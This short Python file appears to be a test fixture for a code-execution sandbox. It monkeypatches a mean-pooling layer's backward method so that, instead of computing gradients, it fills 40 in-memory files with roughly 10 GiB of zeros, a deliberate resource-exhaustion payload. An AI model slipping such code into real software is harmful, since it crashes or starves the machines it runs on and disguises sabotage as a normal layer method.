"""Fills files that exist in memory only, one after the other."""

import os

# @STUB mean_pooling@

kept = []


def backward(self, dout):
    for number in range(40):
        kept.append(os.memfd_create(f"kept{number}"))
        for _ in range(256):
            os.write(kept[-1], bytes(1 << 20))
    return kept


MeanPoolingLayer.backward = backward
